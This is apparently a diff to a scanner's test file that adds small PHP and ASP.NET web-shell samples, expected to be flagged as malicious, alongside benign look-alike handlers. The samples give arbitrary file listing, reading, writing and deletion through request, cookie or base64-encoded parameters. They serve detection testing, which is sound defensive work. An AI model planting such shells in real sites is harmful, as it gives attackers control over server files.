@@ -55,7 +55,109 @@ if (!empty($_POST['file'])) {
   ],
 ];
 
+// Red team S42R's evasions of this session's changes (bench/redteam/README-corpus-s42.md), written again by us.
+const VARIANTS: [string, string, string][] = [
+  [
+    'the default in brackets with a slash joined after it (S42R-13)',
+    '/srv/www/fm3.php',
+    `<?php
+$home = getcwd();
+$dir = ($_GET['d'] ?? $home) . '/';
+if (isset($_GET['rm'])) unlink($dir . $_GET['rm']);
+if (isset($_POST['n'])) file_put_contents($dir . $_POST['n'], $_POST['c']);
+foreach (scandir($dir) as $e) echo $e, "<br>";
+`,
+  ],
+  [
+    'an ASP.NET handler deleting and writing paths its context\'s request names (S42R-18)',
+    '/inetpub/wwwroot/h.ashx',
+    `<%@ WebHandler Language="C#" Class="H" %>
+using System.IO; using System.Web;
+public class H : IHttpHandler {
+  public bool IsReusable { get { return false; } }
+  public void ProcessRequest(HttpContext ctx) {
+    string at = ctx.Request["at"];
+    if (ctx.Request["op"] == "rm") File.Delete(at); else File.WriteAllText(at, ctx.Request["text"]);
+  }
+}
+`,
+  ],
+  [
+    'an ASP.NET page sending any file through TransmitFile and listing folders, the path base64 inside a URL decode (S42R-16)',
+    '/inetpub/wwwroot/t.aspx',
+    `<%@ Page Language="C#" %>
+<%@ Import Namespace="System.IO" %>
+<%
+string p = Encoding.UTF8.GetString(Convert.FromBase64String(HttpUtility.UrlDecode(Request["p"])));
+foreach (string f in Directory.EnumerateFileSystemEntries(p)) Response.Write(f + "<br>");
+if (Request["get"] == "1") Response.TransmitFile(p);
+%>
+`,
+  ],
+  [
+    'a file read through LOAD_FILE() of a path the cookie names (S42R-20, -21)',
+    '/srv/www/lf.php',
+    `<?php
+$db = new mysqli('localhost', $_COOKIE['u'], $_COOKIE['p']);
+$f = $_COOKIE['f'];
+$r = $db->query("SELECT LOAD_FILE('$f')");
+echo $r->fetch_row()[0];
+`,
+  ],
+];
+
 const LOOKALIKES: [string, string, string][] = [
+  [
+    'a dispatcher whose action a ternary checks against a list before its default (S42R-1)',
+    '/srv/www/app.php',
+    `<?php
+$default = 'home';
+$actions = ['home', 'list', 'show'];
+$action = isset($_GET['a']) && in_array($_GET['a'], $actions, true) ? $_GET['a'] : $default;
+$handler = 'action_' . $action;
+$handler();
+`,
+  ],
+  [
+    'an exporter calling export_ and the format the query asks, or its default (S42R-2)',
+    '/srv/www/export.php',
+    `<?php
+$defaultFormat = 'csv';
+$format = $_GET['format'] ?? $defaultFormat;
+$fn = 'export_' . $format;
+if (!function_exists($fn)) $fn = 'export_csv';
+call_user_func($fn, $rows);
+$fn($rows);
+`,
+  ],
+  [
+    'an installer loading the CSV it ships through LOAD DATA when its button is pressed (S42R-7)',
+    '/srv/www/install/geo.php',
+    `<?php
+if (isset($_POST['install'])) {
+  $csv = __DIR__ . '/data/countries.csv';
+  $db->query("CREATE TABLE IF NOT EXISTS geo (net TEXT, cc CHAR(2))");
+  $db->query("LOAD DATA LOCAL INFILE '$csv' INTO TABLE geo FIELDS TERMINATED BY ','");
+  echo $db->query("SELECT COUNT(*) FROM geo")->fetch_row()[0];
+}
+`,
+  ],
+  [
+    'an ASP.NET log viewer setting the log back to its list when the query names another (S42R-5)',
+    '/inetpub/wwwroot/admin/logs.aspx',
+    `<%@ Page Language="C#" %>
+<%@ Import Namespace="System.IO" %>
+<script runat="server">
+static readonly string[] Logs = { @"D:\logs\app.log", @"D:\logs\jobs.log" };
+</script>
+<%
+string log = Request.QueryString["log"];
+if (!Logs.Contains(log)) log = Logs[0];
+if (Request.QueryString["clear"] == "1") { File.Delete(log); File.WriteAllText(log, ""); }
+Response.Write(Server.HtmlEncode(File.ReadAllText(log)));
+%>
+`,
+  ],
   [
     'a CSV importer loading the uploaded file into a table it makes',
     '/srv/www/admin/import.php',
@@ -105,5 +207,12 @@ describe('scan: session 42 samples, the misses written again', () => {
       assert.notEqual(r.verdict, 'malicious', why(r));
     });
   }
-  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 5));
+  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 9));
+  for (const [name, path, src] of VARIANTS) {
+    it(`malicious: ${name}`, () => {
+      const r = scan(src, path);
+      assert.equal(r.verdict, 'malicious', why(r));
+    });
+  }
+  it('ran every variant', () => assert.equal(VARIANTS.length, 4));
 });
